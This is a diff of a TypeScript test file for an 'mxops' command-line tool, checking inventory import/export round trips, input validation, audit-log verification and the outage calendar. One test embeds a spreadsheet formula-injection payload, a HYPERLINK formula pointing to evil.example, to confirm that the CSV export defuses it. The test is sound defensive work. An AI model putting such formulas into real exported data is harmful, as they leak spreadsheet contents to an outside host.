@@ -31,74 +31,125 @@ describe.each(STORE_DIALECTS)('inventory and audit commands on %s', (dialect) =>
     expect(await runInventoryImport({ file: EXAMPLE, actor: 'alice' }, deps())).toBe(
       `${EXAMPLE}: people: 3 added, 0 updated, 0 unchanged; policies: 2 added, 0 updated, 0 unchanged; systems: 3 added, 0 updated, 0 unchanged; patches: 5 added, 0 updated, 0 unchanged\n`,
     );
-    expect(await runInventoryImport({ file: EXAMPLE, actor: 'alice' }, deps())).toMatch(/patches: 0 added, 0 updated, 5 unchanged \(nothing changed\)\n$/);
+    expect(await runInventoryImport({ file: EXAMPLE, actor: 'alice' }, deps())).toMatch(
+      /patches: 0 added, 0 updated, 5 unchanged \(nothing changed\)\n$/,
+    );
     const yaml = await runInventoryExport({}, { store });
     const original = parseInventoryYaml(readFileSync(EXAMPLE, 'utf8'));
     const exported = parseInventoryYaml(yaml, 'export.yaml');
-    expect(exported.systems.map((system) => system.name).sort()).toEqual(original.systems.map((system) => system.name).sort());
+    expect(exported.systems.map((system) => system.name).sort()).toEqual(
+      original.systems.map((system) => system.name).sort(),
+    );
     expect(exported.patches).toHaveLength(original.patches.length);
     // The export imports as "nothing changed": the round trip through the store is exact.
     writeFileSync(join(dir, 'export.yaml'), yaml);
-    expect(await runInventoryImport({ file: join(dir, 'export.yaml'), actor: 'alice' }, deps())).toMatch(/\(nothing changed\)/);
+    expect(await runInventoryImport({ file: join(dir, 'export.yaml'), actor: 'alice' }, deps())).toMatch(
+      /\(nothing changed\)/,
+    );
     // A CSV of one kind imports too.
     writeFileSync(join(dir, 'patches.csv'), await runInventoryExport({ format: 'csv', kind: 'patches' }, { store }));
-    expect(await runInventoryImport({ file: join(dir, 'patches.csv'), actor: 'alice' }, deps())).toBe(`${join(dir, 'patches.csv')}: patches: 0 added, 0 updated, 5 unchanged (nothing changed)\n`);
+    expect(await runInventoryImport({ file: join(dir, 'patches.csv'), actor: 'alice' }, deps())).toBe(
+      `${join(dir, 'patches.csv')}: patches: 0 added, 0 updated, 5 unchanged (nothing changed)\n`,
+    );
   });
 
   it('exports a title a spreadsheet would run as a formula with a leading quote, and the export imports as nothing changed', async () => {
     await runInventoryImport({ file: EXAMPLE, actor: 'alice' }, deps());
     const hostile = `${readFileSync(EXAMPLE, 'utf8').replace(/^patches:\n/m, 'patches:\n  - system: mail-gw-1\n    title: \'=HYPERLINK("http://evil.example/?x="&A1,"Fix")\'\n    severity: low\n    released: 2026-11-01\n  - system: mail-gw-1\n    title: "-5"\n    severity: low\n    released: 2026-11-02\n')}`;
     writeFileSync(join(dir, 'hostile.yaml'), hostile);
-    expect(await runInventoryImport({ file: join(dir, 'hostile.yaml'), actor: 'alice' }, deps())).toMatch(/patches: 2 added/);
+    expect(await runInventoryImport({ file: join(dir, 'hostile.yaml'), actor: 'alice' }, deps())).toMatch(
+      /patches: 2 added/,
+    );
     const csv = await runInventoryExport({ format: 'csv', kind: 'patches' }, { store });
     expect(csv).toContain(`mail-gw-1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Fix"")",,low,2026-11-01,`);
     expect(csv).toContain('mail-gw-1,-5,,low,2026-11-02,');
     writeFileSync(join(dir, 'patches.csv'), csv);
-    expect(await runInventoryImport({ file: join(dir, 'patches.csv'), actor: 'alice' }, deps())).toMatch(/patches: 0 added, 0 updated, \d+ unchanged \(nothing changed\)\n$/);
+    expect(await runInventoryImport({ file: join(dir, 'patches.csv'), actor: 'alice' }, deps())).toMatch(
+      /patches: 0 added, 0 updated, \d+ unchanged \(nothing changed\)\n$/,
+    );
   });
 
   it('refuses bad input with a specific message and writes nothing', async () => {
-    await expect(runInventoryImport({ file: join(dir, 'inventory.txt'), actor: 'a' }, deps())).rejects.toThrow('use --format yaml or --format csv');
-    await expect(runInventoryImport({ file: join(dir, 'missing.yaml'), actor: 'a' }, deps())).rejects.toThrow(/cannot read .*missing.yaml: ENOENT/);
+    await expect(runInventoryImport({ file: join(dir, 'inventory.txt'), actor: 'a' }, deps())).rejects.toThrow(
+      'use --format yaml or --format csv',
+    );
+    await expect(runInventoryImport({ file: join(dir, 'missing.yaml'), actor: 'a' }, deps())).rejects.toThrow(
+      /cannot read .*missing.yaml: ENOENT/,
+    );
     writeFileSync(join(dir, 'bad.yaml'), 'systems:\n  - name: s1\n    criticality: urgent\n');
-    await expect(runInventoryImport({ file: join(dir, 'bad.yaml'), actor: 'a' }, deps())).rejects.toThrow(/bad.yaml:3: systems\[0\]\.criticality: must be one of critical, high, medium, low \(got "urgent"\)/);
+    await expect(runInventoryImport({ file: join(dir, 'bad.yaml'), actor: 'a' }, deps())).rejects.toThrow(
+      /bad.yaml:3: systems\[0\]\.criticality: must be one of critical, high, medium, low \(got "urgent"\)/,
+    );
     await expect(runInventoryExport({ format: 'csv' }, { store })).rejects.toThrow('add --kind people|systems|patches');
     await expect(runInventoryExport({ format: 'xml' }, { store })).rejects.toThrow('unknown format "xml"');
-    expect(await runAuditVerify({ store })).toEqual({ output: expect.stringContaining('intact: 0 entries'), exitCode: 0 });
+    expect(await runAuditVerify({ store })).toEqual({
+      output: expect.stringContaining('intact: 0 entries'),
+      exitCode: 0,
+    });
   });
 
   it('verifies the audit log, names the first broken entry, and exports it as JSON or CSV from a date', async () => {
     await runInventoryImport({ file: EXAMPLE, actor: 'alice' }, deps());
     expect((await runAuditVerify({ store })).exitCode).toBe(0);
     const chunks: string[] = [];
-    await runAuditExport({ format: 'json', since: '2026-11-01' }, { store, now: () => now, write: (text) => chunks.push(text) });
+    await runAuditExport(
+      { format: 'json', since: '2026-11-01' },
+      { store, now: () => now, write: (text) => chunks.push(text) },
+    );
     const entries = JSON.parse(chunks.join('')) as { seq: number; actor: string; details: string }[];
     expect(entries).toHaveLength(14);
     expect(entries[0]).toMatchObject({ seq: 1, actor: 'alice', action: 'person-added' });
     const csv: string[] = [];
-    await runAuditExport({ format: 'csv', since: '1d' }, { store, now: () => Date.now() + 3 * 86_400_000, write: (text) => csv.push(text) });
+    await runAuditExport(
+      { format: 'csv', since: '1d' },
+      { store, now: () => Date.now() + 3 * 86_400_000, write: (text) => csv.push(text) },
+    );
     expect(csv.join('')).toBe('seq,at,actor,action,system,surface,details,prev_hash,hash\n');
-    await expect(runAuditExport({ since: 'last tuesday' }, { store, now: () => now, write: () => undefined })).rejects.toThrow('neither a date');
+    await expect(
+      runAuditExport({ since: 'last tuesday' }, { store, now: () => now, write: () => undefined }),
+    ).rejects.toThrow('neither a date');
 
     await sql`update audit_log set details = '{}' where seq = 5`.execute(store.db);
-    expect(await runAuditVerify({ store })).toEqual({ output: expect.stringContaining('BROKEN at entry 5'), exitCode: 1 });
+    expect(await runAuditVerify({ store })).toEqual({
+      output: expect.stringContaining('BROKEN at entry 5'),
+      exitCode: 1,
+    });
   });
 });
 
 describe('the mxops command line', () => {
-  it('imports, verifies, prints the outage calendar, and exits 2 on bad input', async () => {
-    const dir = mkdtempSync(join(tmpdir(), 'mxops-cli-'));
-    const run = (...args: string[]) => runMxops(args, { DATABASE_URL: `sqlite:${join(dir, 'cli.sqlite')}` });
-    try {
-      expect(await run('inventory', 'import', EXAMPLE, '--as', 'alice')).toMatchObject({ code: 0, stdout: expect.stringContaining('systems: 3 added') });
-      expect(await run('audit', 'verify')).toMatchObject({ code: 0, stdout: expect.stringMatching(/^audit log intact: 14 entries, head [0-9a-f]{64}\n$/) });
-      const calendar = await run('outage', 'calendar', '--since', '7d');
-      expect(calendar).toMatchObject({ code: 0, stdout: expect.stringMatching(/^BEGIN:VCALENDAR\r\n[\s\S]*END:VCALENDAR/) });
-      expect(await run('outage', 'calendar', '--since', 'last week')).toMatchObject({ code: 2, stderr: expect.stringContaining('neither a date') });
-      writeFileSync(join(dir, 'bad.csv'), 'handle,name\nalice\n');
-      expect(await run('inventory', 'import', join(dir, 'bad.csv'))).toMatchObject({ code: 2, stderr: expect.stringContaining('bad.csv') });
-    } finally {
-      rmSync(dir, { recursive: true, force: true });
-    }
-  }, budget(5));
+  it(
+    'imports, verifies, prints the outage calendar, and exits 2 on bad input',
+    async () => {
+      const dir = mkdtempSync(join(tmpdir(), 'mxops-cli-'));
+      const run = (...args: string[]) => runMxops(args, { DATABASE_URL: `sqlite:${join(dir, 'cli.sqlite')}` });
+      try {
+        expect(await run('inventory', 'import', EXAMPLE, '--as', 'alice')).toMatchObject({
+          code: 0,
+          stdout: expect.stringContaining('systems: 3 added'),
+        });
+        expect(await run('audit', 'verify')).toMatchObject({
+          code: 0,
+          stdout: expect.stringMatching(/^audit log intact: 14 entries, head [0-9a-f]{64}\n$/),
+        });
+        const calendar = await run('outage', 'calendar', '--since', '7d');
+        expect(calendar).toMatchObject({
+          code: 0,
+          stdout: expect.stringMatching(/^BEGIN:VCALENDAR\r\n[\s\S]*END:VCALENDAR/),
+        });
+        expect(await run('outage', 'calendar', '--since', 'last week')).toMatchObject({
+          code: 2,
+          stderr: expect.stringContaining('neither a date'),
+        });
+        writeFileSync(join(dir, 'bad.csv'), 'handle,name\nalice\n');
+        expect(await run('inventory', 'import', join(dir, 'bad.csv'))).toMatchObject({
+          code: 2,
+          stderr: expect.stringContaining('bad.csv'),
+        });
+      } finally {
+        rmSync(dir, { recursive: true, force: true });
+      }
+    },
+    budget(5),
+  );
 });
